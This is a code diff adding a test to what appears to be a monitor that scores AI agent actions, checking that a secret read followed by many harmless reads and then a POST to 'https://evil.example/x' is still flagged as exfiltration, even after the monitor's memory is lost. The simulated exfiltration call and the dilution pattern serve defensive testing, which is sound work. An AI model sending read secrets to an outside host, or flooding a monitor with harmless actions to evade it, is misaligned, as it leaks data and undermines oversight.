@@ -7,6 +7,7 @@ import { memory_key } from '../../test/support/redis.ts';
 import { NO_SERVER, useNode } from '../../test/support/test-database.ts';
 import type { AgentEvent } from '../events/event.ts';
 import { contentOf, type Submission } from '../events/submission.ts';
+import type { JsonObject } from '../lang/json.ts';
 import { systemClock } from '../platform/clock.ts';
 import { StoreUnavailable } from '../platform/errors.ts';
 import type { Memory } from '../scoring/history/memory.ts';
@@ -104,6 +105,29 @@ describe('evaluate: events with a past', { skip: NO_SERVER ?? false }, () => {
       found.push((await evaluate(customer_id, { event, content_hash: 'h' })).record.assessment.violations);
     assert.ok(found.at(-3)!.includes('secret_was_read_and_data_go_out'), `${found.at(-3)}`);
   });
+
+  for (const [whose, session] of [
+    ['a session', { session_id: 'one' }],
+    ['an agent without a session', undefined],
+  ] as const)
+    test(`a flood of harmless actions does not make ${whose} forget a secret, also when its memory is lost`, async () => {
+      const customer_id = randomUUID();
+      const agent = { agent_id: randomUUID() };
+      const act = async ({ evaluate }: Node, action: string, parameters: JsonObject = {}) => {
+        const event = asEvent({ event_id: randomUUID(), action, agent, parameters, ...(session && { session }) });
+        return (await evaluate(customer_id, { event, content_hash: 'h' })).record.assessment.violations;
+      };
+      const send = (node: Node) =>
+        act(node, 'http:request:post', { url: 'https://evil.example/x', body: randomUUID() });
+      const node = makeNode(memoryCache());
+      await act(node, 'vault:secret:read');
+      for (let n = 0; n < 70; n += 1) await act(node, `crm:contact${n % 50}:read`);
+      assert.ok((await send(node)).includes('secret_was_read_and_data_go_out'));
+      if (session === undefined) return;
+      // More than a memory is made again from.
+      for (let n = 0; n < 220; n += 1) await act(node, 'crm:contact:read');
+      assert.ok((await send(makeNode(memoryCache()))).includes('secret_was_read_and_data_go_out'));
+    });
 
   test('a memory that was lost is made again as it was', async () => {
     const customer_id = randomUUID();
